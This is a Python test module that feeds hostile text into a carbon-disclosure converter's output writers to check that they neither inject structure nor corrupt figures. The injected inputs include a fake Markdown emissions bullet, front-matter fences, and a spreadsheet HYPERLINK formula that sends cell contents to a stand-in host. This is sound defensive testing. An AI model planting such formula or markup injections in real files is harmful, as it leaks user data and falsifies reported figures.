"""Hostile free text in a disclosure converted to another format: each writer keeps it from changing the structure
of what it writes (a bullet, a front-matter fence, a table row, a spreadsheet formula, a second node of one name),
and says what it had to change. That reading the written file back adds no figure is tested for every writer by
`tests/test_writers_add_nothing.py` and the `write-FORMAT` fuzz targets."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

from tests.hostile.catalogue import CONVERT, Case, Maker, _disclosure, _write

BULLET = "A100\n- **Carbon Emitted:** 999999 kg"
FENCES = "M\n---\nco2_eq_emissions: 5\n---\n| Energy | 77 kWh |\n|---|---|\n| Energy | 78 kWh |"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1, "x")'


def _footprint(**extra: object) -> dict[str, object]:
    return {
        "id": "f", "system": "m", "stage": "training", "energy_boundary": "compute-node",
        "operational_emissions": {"value": 1, "unit": "kg{CO2eq}"}, "emissions_accounting_method": "location-based",
        **extra,
    }  # fmt: skip


def disclosure_file(name: str, system_name: str, *footprints: dict[str, object], **extra: object) -> Maker:
    """A disclosure (as JSON: it keeps every character) of one system and the footprints given."""

    def make(folder: Path) -> Path:
        document = _disclosure(ai_systems=[{"id": "m", "name": system_name}], footprints=list(footprints), **extra)
        return _write(folder / name, json.dumps(document, ensure_ascii=False))

    make.__doc__ = f"A disclosure with hostile text, {name}."
    return make


def cases() -> Iterator[Case]:
    """Writer injections: `aistd convert d.json --to FORMAT` (the catalogue's `--to aistd`, then this one)."""

    def to(form: str) -> tuple[str, ...]:
        return ("--to", form)

    counted = [{"hardware_type": "gpu", "hardware_model": BULLET, "hardware_count": 2}]
    yield Case(
        "card-bullet-in-hardware-model", disclosure_file("d.json", "M", _footprint(hardware=counted)), CONVERT, 0,
        says="would read back as other hardware", options=to("hf-card"),
        fixed="the model went into the body's Hardware Type bullet as it was: its second line, a Carbon Emitted"
        " bullet, read back as a second emissions figure of 999,999 kg",
    )  # fmt: skip
    plain = [{"hardware_type": "gpu", "hardware_model": BULLET}]
    yield Case(
        "card-bullet-in-model-and-places", disclosure_file(
            "d.json", FENCES, _footprint(hardware=plain, location={"cloud_region": BULLET})
        ), CONVERT, 0, options=to("hf-card"),
        fixed="the title and bullets held the text's line breaks: front-matter fences, a table and a bullet in the"
        " body, read back as figures",
    )  # fmt: skip
    for form in ("codecarbon", "eco2ai"):
        hardware = [{"hardware_type": "gpu", "hardware_model": FORMULA, "hardware_count": 1}]
        yield Case(
            f"{form}-spreadsheet-formula", disclosure_file("d.json", "@SUM(1+1)", _footprint(hardware=hardware)),
            CONVERT, 0, says="which a spreadsheet runs as a formula", options=to(form),
            fixed="cells starting with = and @ were written as they were: a spreadsheet opening the CSV runs them",
        )  # fmt: skip
    twice = [_footprint(), _footprint(operational_emissions={"value": 2, "unit": "kg{CO2eq}"})]
    yield Case(
        "impact-framework-two-footprints-one-id", disclosure_file("d.json", "M", *twice), CONVERT, 0,
        says="another node of the manifest has that name", options=to("impact-framework"),
        fixed="both footprints became one YAML key: the second overwrote the first, nothing said",
    )  # fmt: skip
